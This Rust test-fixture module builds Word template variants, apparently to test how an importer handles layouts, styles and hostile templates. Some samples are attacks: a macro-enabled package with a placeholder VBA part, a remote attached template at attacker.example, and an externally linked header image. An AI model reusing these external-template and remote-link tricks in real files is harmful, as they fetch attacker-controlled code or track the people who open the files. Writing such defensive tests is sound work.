//! Templates made by hand, each of one kind: what Word, LibreOffice and houses write.

use super::super::template_attack::{At, Parts, insert, relate, text};

const WORD: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const RELATION: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const DRAWING: &str = "http://schemas.openxmlformats.org/drawingml/2006/main";
const TYPE: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml";

pub(super) const TYPES: &str = "[Content_Types].xml";
const DOCUMENT: &str = "word/document.xml";
const STYLES: &str = "word/styles.xml";
const SETTINGS: &str = "word/settings.xml";
const THEME: &str = "word/theme/theme1.xml";

type Kind = (&'static str, fn(&mut Parts));

/// The kinds.
pub(super) const KINDS: &[Kind] = &[
    ("as Word begins", |_| {}),
    ("A5", |p| {
        page(
            p,
            "<w:pgSz w:w=\"8391\" w:h=\"11906\"/><w:pgMar w:top=\"1134\" w:right=\"850\" w:bottom=\"1134\" w:left=\"850\" w:header=\"567\" w:footer=\"567\" w:gutter=\"0\"/>",
        );
    }),
    ("Letter", |p| {
        page(
            p,
            "<w:pgSz w:w=\"12240\" w:h=\"15840\"/><w:pgMar w:top=\"1440\" w:right=\"1440\" w:bottom=\"1440\" w:left=\"1440\" w:header=\"720\" w:footer=\"720\" w:gutter=\"0\"/>",
        );
    }),
    ("landscape", |p| {
        page(
            p,
            "<w:pgSz w:w=\"16838\" w:h=\"11906\" w:orient=\"landscape\"/><w:pgMar w:top=\"1440\" w:right=\"1440\" w:bottom=\"1440\" w:left=\"1440\" w:header=\"708\" w:footer=\"708\" w:gutter=\"0\"/>",
        );
    }),
    ("wide margins and a gutter", |p| {
        page(
            p,
            "<w:pgSz w:w=\"11906\" w:h=\"16838\"/><w:pgMar w:top=\"2268\" w:right=\"2835\" w:bottom=\"2268\" w:left=\"2268\" w:header=\"708\" w:footer=\"708\" w:gutter=\"567\"/>",
        );
    }),
    ("margins without a size", |p| page(p, "<w:pgMar w:top=\"1000\" w:right=\"1000\" w:left=\"1000\"/>")),
    ("no section", |p| swap(p, DOCUMENT, SECTION, "")),
    ("no styles", |p| {
        p.remove(STYLES);
        swap(p, TYPES, &of_type("word/styles.xml", "styles"), "");
        swap(p, "word/_rels/document.xml.rels", &relation("rId1", "styles", "styles.xml"), "");
    }),
    ("styles without defaults", |p| {
        let style = "<w:style w:type=\"paragraph\" w:styleId=\"Body\"><w:name w:val=\"Body Text\"/><w:pPr><w:jc w:val=\"both\"/></w:pPr></w:style>";
        p.insert(STYLES.to_owned(), format!("<w:styles xmlns:w=\"{WORD}\">{style}</w:styles>").into_bytes());
    }),
    ("German", german),
    ("strict", |p| {
        lengths(p);
        make_strict(p);
    }),
    ("dotx", |p| swap(p, TYPES, "document.main+xml", "template.main+xml")),
    ("docm", |p| {
        swap(
            p,
            TYPES,
            &format!("{TYPE}.document.main+xml"),
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        );
        let kind = "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>";
        insert(p, TYPES, At::Before, "<Override", kind);
        p.insert("word/vbaProject.bin".to_owned(), b"attacker".to_vec());
        let relation = "<Relationship Id=\"rIdVba\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/>";
        relate(p, DOCUMENT, relation);
    }),
    ("template of another machine", |p| {
        insert(p, SETTINGS, At::Behind, ">", "<w:attachedTemplate r:id=\"rIdA\"/>");
        outside(p, SETTINGS, "rIdA", "attachedTemplate", "https://attacker.example/unit.dotm");
    }),
    ("picture of another machine", |p| {
        edges(p);
        outside(p, "word/header1.xml", "rIdP", "image", "https://attacker.example/logo.png");
        insert(p, "word/header1.xml", At::Before, "</w:p>", &picture("r:link=\"rIdP\""));
    }),
    ("numbered headings", |p| numbered(p, "upperRoman", "Chapter %1:")),
    ("numbered headings, the second level none", |p| {
        numbered(p, "decimal", "%1");
        swap(p, STYLES, "<w:numPr><w:ilvl w:val=\"1\"/><w:numId w:val=\"7\"/></w:numPr>", "");
    }),
    ("headings of other names", |p| {
        numbered(p, "upperLetter", "%1)");
        swap(p, STYLES, "w:val=\"heading 1\"", "w:val=\"House Title\"");
        swap(p, STYLES, "w:val=\"heading 2\"", "w:val=\"House Subtitle\"");
    }),
    ("contents heading based on a heading", |p| {
        insert(
            p,
            STYLES,
            At::Before,
            "</w:styles>",
            "<w:style w:type=\"paragraph\" w:styleId=\"TOCHeading\"><w:name w:val=\"TOC Heading\"/><w:basedOn w:val=\"Heading1\"/><w:next w:val=\"Normal\"/></w:style><w:style w:type=\"paragraph\" w:customStyle=\"1\" w:styleId=\"Annex\"><w:name w:val=\"Annex\"/><w:basedOn w:val=\"Heading1\"/></w:style>",
        );
    }),
    ("contents with stops of another page", |p| {
        insert(
            p,
            STYLES,
            At::Before,
            "</w:styles>",
            "<w:style w:type=\"paragraph\" w:styleId=\"TOC1\"><w:name w:val=\"toc 1\"/><w:basedOn w:val=\"Normal\"/><w:pPr><w:tabs><w:tab w:val=\"left\" w:pos=\"440\"/><w:tab w:val=\"right\" w:leader=\"underscore\" w:pos=\"13000\"/></w:tabs></w:pPr></w:style>",
        );
    }),
    ("pale colours and faces", |p| {
        swap(p, THEME, "4472C4", "FFE699");
        swap(p, THEME, "44546A", "DDDDDD");
        swap(p, THEME, "Calibri Light", "Georgia");
    }),
    ("colours and faces", |p| swap(p, THEME, "4472C4", "7A1F3D")),
    ("no theme", |p| {
        p.remove(THEME);
        swap(p, TYPES, THEME_TYPE, "");
        swap(p, "word/_rels/document.xml.rels", &relation("rId3", "theme", "theme/theme1.xml"), "");
    }),
    ("headers and footers", edges),
    ("footers without numbers", |p| {
        edges(p);
        swap(
            p,
            "word/footer1.xml",
            "<w:fldSimple w:instr=\" PAGE \"><w:r><w:t>1</w:t></w:r></w:fldSimple>",
            "",
        );
    }),
    ("no list of latent styles", |p| {
        swap(p, STYLES, LATENT, "");
    }),
    ("paragraphs with indents, in capitals", |p| {
        swap(
            p,
            STYLES,
            "<w:name w:val=\"Normal\"/><w:qFormat/>",
            "<w:name w:val=\"Normal\"/><w:qFormat/><w:pPr><w:ind w:firstLine=\"720\"/><w:jc w:val=\"both\"/></w:pPr><w:rPr><w:b/><w:sz w:val=\"20\"/></w:rPr>",
        );
    }),
    ("names of ours that mean something else", |p| {
        insert(
            p,
            STYLES,
            At::Before,
            "</w:styles>",
            "<w:style w:type=\"character\" w:customStyle=\"1\" w:styleId=\"Caption\"><w:name w:val=\"Source\"/></w:style><w:style w:type=\"paragraph\" w:customStyle=\"1\" w:styleId=\"TableHead\"><w:name w:val=\"Table Head\"/><w:basedOn w:val=\"Normal\"/></w:style>",
        );
    }),
    ("a table style of ours that is bold twice", |p| {
        insert(
            p,
            STYLES,
            At::Before,
            "</w:styles>",
            "<w:style w:type=\"paragraph\" w:customStyle=\"1\" w:styleId=\"TH\"><w:name w:val=\"Table Head\"/><w:basedOn w:val=\"Normal\"/><w:rPr><w:b/></w:rPr></w:style><w:style w:type=\"table\" w:customStyle=\"1\" w:styleId=\"BT\"><w:name w:val=\"Brand Table\"/><w:tblStylePr w:type=\"firstRow\"><w:rPr><w:b/></w:rPr></w:tblStylePr></w:style>",
        );
    }),
];

/// The part with one text replaced, which it must have.
fn swap(parts: &mut Parts, part: &str, from: &str, to: &str) {
    let old = text(parts, part);
    assert!(old.contains(from), "{part} has no {from}; mend this test");
    parts.insert(part.to_owned(), old.replacen(from, to, 1).into_bytes());
}

fn page(parts: &mut Parts, page: &str) {
    swap(parts, DOCUMENT, SECTION, &format!("<w:sectPr>{page}</w:sectPr>"));
}

fn relation(id: &str, kind: &str, target: &str) -> String {
    format!("<Relationship Id=\"{id}\" Type=\"{RELATION}/{kind}\" Target=\"{target}\"/>")
}

fn outside(parts: &mut Parts, part: &str, id: &str, kind: &str, target: &str) {
    let relation = relation(id, kind, target).replace("/>", " TargetMode=\"External\"/>");
    relate(parts, part, &relation);
}

fn of_type(part: &str, kind: &str) -> String {
    format!("<Override PartName=\"/{part}\" ContentType=\"{TYPE}.{kind}+xml\"/>")
}

const SECTION: &str = "<w:sectPr><w:pgSz w:w=\"11906\" w:h=\"16838\"/><w:pgMar w:top=\"1440\" w:right=\"1440\" w:bottom=\"1440\" w:left=\"1440\" w:header=\"708\" w:footer=\"708\" w:gutter=\"0\"/></w:sectPr>";
const LATENT: &str = "<w:latentStyles w:defLockedState=\"0\" w:defUIPriority=\"99\" w:defSemiHidden=\"0\" w:defUnhideWhenUsed=\"0\" w:defQFormat=\"0\" w:count=\"376\"><w:lsdException w:name=\"Normal\" w:uiPriority=\"0\" w:qFormat=\"1\"/></w:latentStyles>";
const THEME_TYPE: &str = "<Override PartName=\"/word/theme/theme1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.theme+xml\"/>";

/// A document as Word begins it: two headings, Calibri, an inch of margin.
pub(super) fn plain() -> Parts {
    let mut parts = Parts::new();
    let mut add = |name: &str, content: String| {
        parts.insert(name.to_owned(), content.into_bytes());
    };
    let types = [
        ("word/document.xml", "document.main"),
        ("word/styles.xml", "styles"),
        ("word/settings.xml", "settings"),
    ];
    let types: String = types.iter().map(|(part, kind)| of_type(part, kind)).collect();
    add(
        TYPES,
        format!(
            "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/>{types}{THEME_TYPE}</Types>"
        ),
    );
    let list = |relations: &str| {
        format!(
            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">{relations}</Relationships>"
        )
    };
    add("_rels/.rels", list(&relation("rId1", "officeDocument", DOCUMENT)));
    let relations = [
        ("rId1", "styles", "styles.xml"),
        ("rId2", "settings", "settings.xml"),
        ("rId3", "theme", "theme/theme1.xml"),
    ];
    let relations: String = relations.iter().map(|(id, kind, target)| relation(id, kind, target)).collect();
    add("word/_rels/document.xml.rels", list(&relations));
    add(
        DOCUMENT,
        format!(
            "<w:document xmlns:w=\"{WORD}\" xmlns:r=\"{RELATION}\"><w:body><w:p><w:pPr><w:pStyle w:val=\"Heading1\"/></w:pPr><w:r><w:t>A template</w:t></w:r></w:p>{SECTION}</w:body></w:document>"
        ),
    );
    add(SETTINGS, format!("<w:settings xmlns:w=\"{WORD}\" xmlns:r=\"{RELATION}\"><w:compat/></w:settings>"));
    let heading = |level: u32, size: u32| {
        format!(
            "<w:style w:type=\"paragraph\" w:styleId=\"Heading{level}\"><w:name w:val=\"heading {level}\"/><w:basedOn w:val=\"Normal\"/><w:next w:val=\"Normal\"/><w:uiPriority w:val=\"9\"/><w:qFormat/><w:pPr><w:keepNext/><w:spacing w:before=\"240\" w:after=\"0\"/><w:outlineLvl w:val=\"{}\"/></w:pPr><w:rPr><w:rFonts w:asciiTheme=\"majorHAnsi\" w:hAnsiTheme=\"majorHAnsi\"/><w:color w:val=\"2F5496\" w:themeColor=\"accent1\" w:themeShade=\"BF\"/><w:sz w:val=\"{size}\"/></w:rPr></w:style>",
            level - 1
        )
    };
    let defaults = "<w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:asciiTheme=\"minorHAnsi\" w:hAnsiTheme=\"minorHAnsi\" w:eastAsiaTheme=\"minorHAnsi\" w:cstheme=\"minorBidi\"/><w:sz w:val=\"22\"/><w:szCs w:val=\"22\"/><w:lang w:val=\"de-DE\" w:eastAsia=\"en-US\" w:bidi=\"ar-SA\"/></w:rPr></w:rPrDefault><w:pPrDefault><w:pPr><w:spacing w:after=\"160\" w:line=\"259\" w:lineRule=\"auto\"/></w:pPr></w:pPrDefault></w:docDefaults>";
    add(
        STYLES,
        format!(
            "<w:styles xmlns:w=\"{WORD}\">{defaults}{LATENT}<w:style w:type=\"paragraph\" w:default=\"1\" w:styleId=\"Normal\"><w:name w:val=\"Normal\"/><w:qFormat/></w:style>{}{}<w:style w:type=\"character\" w:default=\"1\" w:styleId=\"DefaultParagraphFont\"><w:name w:val=\"Default Paragraph Font\"/></w:style><w:style w:type=\"table\" w:default=\"1\" w:styleId=\"TableNormal\"><w:name w:val=\"Normal Table\"/><w:tblPr><w:tblInd w:w=\"0\" w:type=\"dxa\"/><w:tblCellMar><w:left w:w=\"108\" w:type=\"dxa\"/><w:right w:w=\"108\" w:type=\"dxa\"/></w:tblCellMar></w:tblPr></w:style></w:styles>",
            heading(1, 32),
            heading(2, 26)
        ),
    );
    add(THEME, theme());
    parts
}

/// The colours and faces of Office.
fn theme() -> String {
    let colour = |name: &str, value: &str| format!("<a:{name}><a:srgbClr val=\"{value}\"/></a:{name}>");
    let colours = [
        ("dk1", "000000"),
        ("lt1", "FFFFFF"),
        ("dk2", "44546A"),
        ("lt2", "E7E6E6"),
        ("accent1", "4472C4"),
        ("accent2", "ED7D31"),
        ("accent3", "A5A5A5"),
        ("accent4", "FFC000"),
        ("accent5", "5B9BD5"),
        ("accent6", "70AD47"),
        ("hlink", "0563C1"),
        ("folHlink", "954F72"),
    ];
    let colours: String = colours.iter().map(|(name, value)| colour(name, value)).collect();
    let face = |name: &str, face: &str| {
        format!(
            "<a:{name}><a:latin typeface=\"{face}\"/><a:ea typeface=\"\"/><a:cs typeface=\"\"/></a:{name}>"
        )
    };
    let solid = "<a:solidFill><a:schemeClr val=\"phClr\"/></a:solidFill>".repeat(3);
    let line = "<a:ln w=\"6350\"><a:solidFill><a:schemeClr val=\"phClr\"/></a:solidFill></a:ln>".repeat(3);
    let effect = "<a:effectStyle><a:effectLst/></a:effectStyle>".repeat(3);
    format!(
        "<a:theme xmlns:a=\"{DRAWING}\" name=\"Office\"><a:themeElements><a:clrScheme name=\"Office\">{colours}</a:clrScheme><a:fontScheme name=\"Office\">{}{}</a:fontScheme><a:fmtScheme name=\"Office\"><a:fillStyleLst>{solid}</a:fillStyleLst><a:lnStyleLst>{line}</a:lnStyleLst><a:effectStyleLst>{effect}</a:effectStyleLst><a:bgFillStyleLst>{solid}</a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>",
        face("majorFont", "Calibri Light"),
        face("minorFont", "Calibri")
    )
}

/// As a German Word writes it: ids in its language, names as everywhere.
pub(super) fn german(parts: &mut Parts) {
    let styles = text(parts, STYLES);
    let styles = styles
        .replace("\"Normal\"", "\"Standard\"")
        .replace("<w:name w:val=\"Standard\"/>", "<w:name w:val=\"Normal\"/>")
        .replace("\"Heading1\"", "\"berschrift1\"")
        .replace("\"Heading2\"", "\"berschrift2\"")
        .replace("\"DefaultParagraphFont\"", "\"Absatz-Standardschriftart\"")
        .replace("\"TableNormal\"", "\"NormaleTabelle\"");
    let own = "<w:style w:type=\"paragraph\" w:styleId=\"Verzeichnis1\"><w:name w:val=\"toc 1\"/><w:basedOn w:val=\"Standard\"/></w:style><w:style w:type=\"paragraph\" w:styleId=\"Beschriftung\"><w:name w:val=\"caption\"/><w:basedOn w:val=\"Standard\"/><w:rPr><w:i/></w:rPr></w:style><w:style w:type=\"character\" w:styleId=\"Fett\"><w:name w:val=\"Strong\"/><w:rPr><w:b/></w:rPr></w:style>";
    parts.insert(STYLES.to_owned(), styles.replace("</w:styles>", &format!("{own}</w:styles>")).into_bytes());
}

/// Adds a list that numbers the headings.
fn numbered(parts: &mut Parts, format: &str, pattern: &str) {
    let level = |index: usize, pattern: &str, format: &str| {
        format!(
            "<w:lvl w:ilvl=\"{index}\"><w:start w:val=\"1\"/><w:numFmt w:val=\"{format}\"/><w:pStyle w:val=\"Heading{}\"/><w:suff w:val=\"space\"/><w:lvlText w:val=\"{pattern}\"/><w:lvlJc w:val=\"left\"/></w:lvl>",
            index + 1
        )
    };
    let list = format!(
        "<w:numbering xmlns:w=\"{WORD}\"><w:abstractNum w:abstractNumId=\"3\"><w:nsid w:val=\"51A7E000\"/><w:multiLevelType w:val=\"multilevel\"/>{}{}</w:abstractNum><w:num w:numId=\"7\"><w:abstractNumId w:val=\"3\"/></w:num></w:numbering>",
        level(0, pattern, format),
        level(1, "%1.%2", "decimal")
    );
    parts.insert("word/numbering.xml".to_owned(), list.into_bytes());
    insert(parts, TYPES, At::Before, "</Types>", &of_type("word/numbering.xml", "numbering"));
    relate(parts, DOCUMENT, &relation("rId9", "numbering", "numbering.xml"));
    swap(
        parts,
        STYLES,
        "<w:outlineLvl w:val=\"0\"/>",
        "<w:numPr><w:numId w:val=\"7\"/></w:numPr><w:outlineLvl w:val=\"0\"/>",
    );
    swap(
        parts,
        STYLES,
        "<w:outlineLvl w:val=\"1\"/>",
        "<w:numPr><w:ilvl w:val=\"1\"/><w:numId w:val=\"7\"/></w:numPr><w:outlineLvl w:val=\"1\"/>",
    );
}

/// Adds a header, and a footer with the number of the page behind a stop.
fn edges(parts: &mut Parts) {
    let root = |name: &str, content: &str| {
        format!(
            "<w:{name} xmlns:w=\"{WORD}\" xmlns:r=\"{RELATION}\" xmlns:a=\"{DRAWING}\"><w:p>{content}</w:p></w:{name}>"
        )
    };
    let run = |words: &str| format!("<w:r><w:t xml:space=\"preserve\">{words}</w:t></w:r>");
    parts.insert("word/header1.xml".to_owned(), root("hdr", &run("Ministry of Examples")).into_bytes());
    let stops = "<w:pPr><w:tabs><w:tab w:val=\"right\" w:pos=\"9026\"/></w:tabs></w:pPr>";
    let number = "<w:fldSimple w:instr=\" PAGE \"><w:r><w:t>1</w:t></w:r></w:fldSimple>";
    let foot = format!("{stops}{}<w:r><w:tab/></w:r>{number}", run("Unit of Examples"));
    parts.insert("word/footer1.xml".to_owned(), root("ftr", &foot).into_bytes());
    for kind in ["header", "footer"] {
        insert(parts, TYPES, At::Before, "</Types>", &of_type(&format!("word/{kind}1.xml"), kind));
        relate(parts, DOCUMENT, &relation(&format!("rId{kind}"), kind, &format!("{kind}1.xml")));
        let reference = format!("<w:sectPr><w:{kind}Reference w:type=\"default\" r:id=\"rId{kind}\"/>");
        swap(parts, DOCUMENT, "<w:sectPr>", &reference);
    }
}

/// A run with a picture that some relation names.
fn picture(blip: &str) -> String {
    let place = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing";
    let pictures = "http://schemas.openxmlformats.org/drawingml/2006/picture";
    format!(
        "<w:r><w:drawing><wp:inline xmlns:wp=\"{place}\"><wp:extent cx=\"900000\" cy=\"900000\"/><wp:docPr id=\"1\" name=\"Logo\"/><a:graphic><a:graphicData uri=\"{pictures}\"><pic:pic xmlns:pic=\"{pictures}\"><pic:nvPicPr><pic:cNvPr id=\"1\" name=\"Logo\"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip {blip}/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    )
}

/// Lengths, percentages and sides as the strict form says them.
fn lengths(parts: &mut Parts) {
    page(
        parts,
        "<w:pgSz w:w=\"595.30pt\" w:h=\"841.90pt\"/><w:pgMar w:top=\"72pt\" w:right=\"72pt\" w:bottom=\"72pt\" w:left=\"72pt\" w:header=\"35.40pt\" w:footer=\"35.40pt\" w:gutter=\"0pt\"/>",
    );
    swap(
        parts,
        STYLES,
        "<w:spacing w:after=\"160\" w:line=\"259\" w:lineRule=\"auto\"/>",
        "<w:spacing w:after=\"8pt\" w:line=\"12.95pt\" w:lineRule=\"auto\"/>",
    );
    swap(
        parts,
        STYLES,
        "<w:keepNext/>",
        "<w:keepNext/><w:ind w:start=\"10pt\" w:end=\"5pt\"/><w:jc w:val=\"start\"/>",
    );
    swap(
        parts,
        STYLES,
        "<w:left w:w=\"108\" w:type=\"dxa\"/><w:right w:w=\"108\" w:type=\"dxa\"/>",
        "<w:start w:w=\"5.40pt\" w:type=\"dxa\"/><w:end w:w=\"5.40pt\" w:type=\"dxa\"/>",
    );
    swap(
        parts,
        THEME,
        "<a:schemeClr val=\"phClr\"/>",
        "<a:schemeClr val=\"phClr\"><a:lumMod val=\"110%\"/></a:schemeClr>",
    );
}

/// A template that says the same as the strict one.
pub(super) fn lengths_with_units() -> Parts {
    let mut parts = plain();
    lengths(&mut parts);
    parts
}

/// The strict form of the format: other namespaces for the same elements.
pub(super) fn make_strict(parts: &mut Parts) {
    let names = [
        (WORD, "http://purl.oclc.org/ooxml/wordprocessingml/main"),
        (RELATION, "http://purl.oclc.org/ooxml/officeDocument/relationships"),
        (DRAWING, "http://purl.oclc.org/ooxml/drawingml/main"),
    ];
    for content in parts.values_mut() {
        let text = String::from_utf8_lossy(content).into_owned();
        *content = names.iter().fold(text, |text, (from, to)| text.replace(from, to)).into_bytes();
    }
    swap(parts, DOCUMENT, "<w:document ", "<w:document w:conformance=\"strict\" ");
}
